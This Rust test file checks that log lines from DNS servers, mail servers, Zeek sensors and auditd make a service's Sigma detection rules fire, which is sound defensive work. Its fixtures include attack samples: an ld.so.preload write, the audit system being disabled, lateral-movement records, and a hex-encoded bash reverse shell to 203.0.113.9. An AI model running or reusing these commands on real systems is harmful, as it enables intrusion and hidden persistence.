//! Raw lines of mail servers, name servers, sensors and the audit system, decoded as the service decodes them, make our
//! own rules fire: decoders and rules were written apart, and only a line can tell whether their names fit.

use std::sync::Arc;

use collector::{Pipeline, PipelineSettings, Record};
use detector::sigma::{FieldMap, RuleSet, RuleSource, Scratch};
use event::{Event, EventId, KnownBy, Origin, SiteId, SourceId, Timestamp, Transport};

/// The shipped rules and a pipeline.
struct Bench {
    rules: RuleSet,
    pipeline: Pipeline,
    origin: Arc<Origin>,
}

impl Bench {
    fn new() -> Self {
        let folder = tests::repository().join("rules/sigma");
        let rules = RuleSet::load(&[RuleSource::Path(folder)], &FieldMap::embedded().unwrap());
        let origin = Origin {
            site: SiteId::local(),
            agency: None,
            known_by: KnownBy::Operator,
            source: SourceId::new("import:raw-lines").unwrap(),
            transport: Transport::Import,
            peer: None,
        };
        Self { rules, pipeline: Pipeline::new(PipelineSettings::default()), origin: Arc::new(origin) }
    }

    fn decode(&self, line: &str) -> Event {
        let received = Timestamp::parse_rfc3339("2026-11-03T00:30:00Z").unwrap();
        let record = Record::new(Arc::clone(&self.origin), received, line.as_bytes().to_vec());
        let mut event = Event::new();
        self.pipeline.event(EventId(1), &record, &mut event);
        event
    }

    /// The files' names of the rules that match the line, in order.
    fn found(&self, line: &str) -> Vec<String> {
        let event = self.decode(line);
        let found = self.rules.evaluate(&event, &mut Scratch::default());
        let mut titles: Vec<String> = found.iter().map(|one| one.rule.reference.title.clone()).collect();
        titles.sort();
        titles
    }

    #[track_caller]
    fn check(&self, line: &str, dataset: &str, titles: &[&str]) {
        let event = self.decode(line);
        assert_eq!(event.get_str("event.dataset"), Some(dataset), "{line}");
        assert_eq!(self.found(line), titles, "{line}\n{event:?}");
    }
}

#[test]
fn lines_of_name_servers_fire() {
    let bench = Bench::new();
    let bind = |name: &str, kind: &str| {
        format!(
            "03-Nov-2026 07:00:00.123 queries: info: client @0x7f1a 10.4.5.6#51234 ({name}): query: {name} IN {kind} + (10.0.0.53)"
        )
    };
    bench.check(&bind("vpn-hcm.duckdns.org", "A"), "bind.query", &["Dynamic DNS name asked for"]);
    bench.check(&bind("paaaaq.t.example.net", "NULL"), "bind.query", &["Record type that only tunnels ask for"]);
    bench.check(&bind("dichvucong.gov.vn", "A"), "bind.query", &[]);
    bench.check(
        "Nov  3 07:00:01 ns-1 named[812]: client @0x7f1a 2001:db8::7#4022 (zqk.onion): query: zqk.onion IN A + (fd00::53)",
        "bind.query",
        &["Name of the Tor network asked for"],
    );
    let transfer = "Zone transfer asked for or given";
    bench.check(
        "Nov  3 07:00:03 ns-1 named[812]: client @0x7f1a 203.0.113.9#4022 (hcm.local): zone transfer 'hcm.local/AXFR/IN' denied",
        "system.syslog",
        &[transfer],
    );
    bench.check(
        "03-Nov-2026 07:00:04.000 xfer-out: info: client @0x7f1a 203.0.113.9#4022 (hcm.local): transfer of 'hcm.local/IN': AXFR started (serial 7)",
        "bind.log",
        &[transfer],
    );
    bench.check(
        "Nov  3 07:00:05 gw-7 dnsmasq[44]: query[AAAA] region2.v2.argotunnel.com from fd00:4::6",
        "dnsmasq.query",
        &["Name of a tunnel service asked for"],
    );
    bench.check(
        "Nov  3 07:00:05 gw-7 dnsmasq[44]: query[type=65399] a.example.net from fd00:4::6",
        "dnsmasq.query",
        &["Record type that only tunnels ask for"],
    );
    bench.check("Nov  3 07:00:07 gw-7 dnsmasq[44]: reply x.ngrok.io is 198.51.100.7", "dnsmasq.reply", &[]);
    bench.check(
        "[1793664010] unbound[812:0] info: 2001:db8::7 tphcm.gov-vn.cc. A IN",
        "unbound.query",
        &["Name that imitates the city or its services"],
    );
    bench.check(
        "Nov  3 07:00:11 ns-2 unbound: [812:0] info: 10.4.5.6 q1.oastify.com. A IN NOERROR 0.023000 0 45",
        "unbound.reply",
        &["Service for out-of-band tests asked for"],
    );
}

#[test]
fn lines_of_mail_servers_fire() {
    let bench = Bench::new();
    let postfix = |daemon: &str, text: &str| format!("Nov  3 06:50:01 mx-1 postfix/{daemon}[812]: {text}");
    let check = |line: String, titles: &[&str]| bench.check(&line, "postfix.log", titles);
    check(
        postfix("smtpd", "warning: unknown[203.0.113.9]: SASL LOGIN authentication failed: UGFzc3dvcmQ6"),
        &["Failed sign-in at the mail server"],
    );
    check(
        postfix("qmgr", "7C1A2: from=<lan@tphcm.gov.vn>, size=5211, nrcpt=100 (queue active)"),
        &["Letter to very many recipients"],
    );
    check(postfix("qmgr", "7C1A2: from=<lan@tphcm.gov.vn>, size=5211, nrcpt=2 (queue active)"), &[]);
    let outside = "Letter in the city’s name from outside";
    check(
        postfix(
            "smtpd",
            "NOQUEUE: reject: RCPT from unknown[2001:db8::7]: 550 5.7.1 <lan@tphcm.gov.vn>: Sender address rejected; \
             from=<vanthu@tphcm.gov.vn> to=<lan@tphcm.gov.vn> proto=ESMTP helo=<x>",
        ),
        &[outside],
    );
    check(
        postfix("smtpd", "7C1A2: client=unknown[203.0.113.9], sasl_method=PLAIN, sasl_username=lan@tphcm.gov.vn"),
        &[],
    );
    check(
        postfix(
            "cleanup",
            "7C1A2: warning: header Content-Disposition: attachment; filename=\"HoaDon.pdf.iso\" from \
             unknown[203.0.113.9]; from=<a@b.example> to=<lan@tphcm.gov.vn> proto=ESMTP helo=<h>",
        ),
        &["Attachment that hides its real ending", "Attachment that runs when it is opened"],
    );
    bench.check(
        "Nov  3 06:50:08 mx-1 opendmarc[9]: 7C1A2: tphcm.gov.vn fail",
        "opendmarc.log",
        &["Letter in the city’s name fails DMARC"],
    );
    let dovecot = |text: &str, titles: &[&str]| {
        bench.check(&format!("Nov  3 06:50:09 mx-1 dovecot: {text}"), "dovecot.log", titles);
    };
    dovecot(
        "imap-login: Login: user=<lan>, method=PLAIN, rip=10.4.5.6, lip=10.0.2.25, mpid=9, session=<a>",
        &["Mailbox opened without encryption"],
    );
    dovecot("imap-login: Login: user=<lan>, method=PLAIN, rip=10.4.5.6, lip=10.0.2.25, mpid=9, TLS, session=<a>", &[]);
    dovecot(
        "imap-login: Disconnected: Connection closed (auth failed, 3 attempts in 9 secs): user=<lan>, method=PLAIN, \
         rip=203.0.113.9, lip=10.0.2.25, TLS",
        &["Mailbox connection with many failed passwords"],
    );
    dovecot(
        "auth-worker(812): sql(info@hcm.example,2001:db8::7): unknown user",
        &["Mailbox sign-in with a name that does not exist"],
    );
    dovecot(
        "lmtp(lan@hcm.example): sieve: msgid=<a@b.example>: forwarded to <lan.2026@gmail.com>",
        &["Mailbox forwards letters to a free mail service"],
    );
}

#[test]
fn records_of_sensors_fire() {
    let bench = Bench::new();
    let ends = r#""uid":"CAbc1","id.orig_h":"10.4.5.6","id.orig_p":40000,"id.resp_h":"203.0.113.9""#;
    let zeek = |rest: &str| format!("{{\"ts\":1793664001.123456,{ends},{rest}}}");
    let check = |rest: &str, log: &str, titles: &[&str]| bench.check(&zeek(rest), &format!("zeek.{log}"), titles);
    check(
        r#""id.resp_p":49667,"endpoint":"drsuapi","operation":"DRSGetNCChanges""#,
        "dce_rpc",
        &["Directory replication over the network from another machine"],
    );
    check(
        r#""id.resp_p":49667,"endpoint":"svcctl","operation":"CreateServiceW""#,
        "dce_rpc",
        &["Service or task made on another machine over the network"],
    );
    let certificate = "TLS with a certificate that proves nothing";
    check(
        r#""id.resp_p":4444,"established":true,"resumed":false,"validation_status":"self signed certificate""#,
        "ssl",
        &[certificate],
    );
    check(
        r#""id.resp_p":25,"established":true,"resumed":false,"validation_status":"self signed certificate""#,
        "ssl",
        &[],
    );
    check(
        r#""id.resp_p":445,"action":"SMB::FILE_WRITE","path":"\\\\10.4.5.7\\ADMIN$","name":"PSEXESVC.exe""#,
        "smb_files",
        &["Program written to a hidden share"],
    );
    check(
        r#""id.resp_p":53,"trans_id":7,"rejected":false,"query":"X7.DDNS.NET","qtype_name":"A""#,
        "dns",
        &["Dynamic DNS name asked for"],
    );
    bench.check(
        r#"{"ts":1793664008.0,"note":"Scan::Address_Scan","msg":"x","src":"10.4.5.6","p":445,"actions":["Notice::ACTION_LOG"]}"#,
        "zeek.notice",
        &["Zeek noticed a sweep or guessing"],
    );
    bench.check(
        "1793664016.123456\tCAbd4\tfd00:4::6\t40000\tfd00::53\t53\tudp\t7\t0.01\tx7.ddns.net\t1\tC_INTERNET\t28\tAAAA\t0\t\
         NOERROR\tF\tF\tT\tT\t0\t2001:db8::1\t60.000000\tF",
        "zeek.dns",
        &["Dynamic DNS name asked for"],
    );
}

#[test]
fn records_of_the_audit_system_fire() {
    let bench = Bench::new();
    let check = |text: &str, titles: &[&str]| bench.check(text, "auditd.log", titles);
    let module = "Kernel module loaded by an unusual program";
    check(
        "type=SYSCALL msg=audit(1793664001.123:911): arch=c000003e syscall=313 success=yes exit=0 a0=3 pid=812 uid=0 \
         comm=\"ld\" exe=\"/dev/shm/ld\" key=\"modules\"",
        &[module],
    );
    check(
        "type=SYSCALL msg=audit(1793664001.123:911): arch=c000003e syscall=313 success=yes exit=0 a0=3 pid=812 uid=0 \
         comm=\"modprobe\" exe=\"/usr/bin/kmod\" key=\"modules\"",
        &[],
    );
    let preload = "The file that every program preloads from was written";
    check(
        "node=srv-7 type=PATH msg=audit(1793664003.123:913): item=1 name=\"/etc/ld.so.preload\" inode=77 nametype=CREATE",
        &[preload],
    );
    check(
        "type=EXECVE msg=audit(1793664002.123:912): argc=3 a0=\"cp\" a1=2F746D702F6120622E736F a2=\"/etc/ld.so.preload\"",
        &[preload],
    );
    check(
        "<13>Nov  3 07:00:04 srv-7 audisp-syslog: type=CONFIG_CHANGE msg=audit(1793664006.123:916): op=set \
         audit_enabled=0 old=1 auid=1000 res=1",
        &["Audit subsystem stopped or made blind"],
    );
    check(
        "type=PATH msg=audit(1793664004.1:20): item=1 name=\"/etc/systemd/system/dbus-helper.service\" nametype=CREATE",
        &["New systemd unit outside the package manager"],
    );
    let shell = bench.found(
        "type=EXECVE msg=audit(1793664009.123:919): argc=3 a0=\"/bin/bash\" a1=\"-c\" \
         a2=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E392F34343320303E2631",
    );
    assert!(shell.iter().any(|title| title.to_lowercase().contains("shell")), "{shell:?}");
}
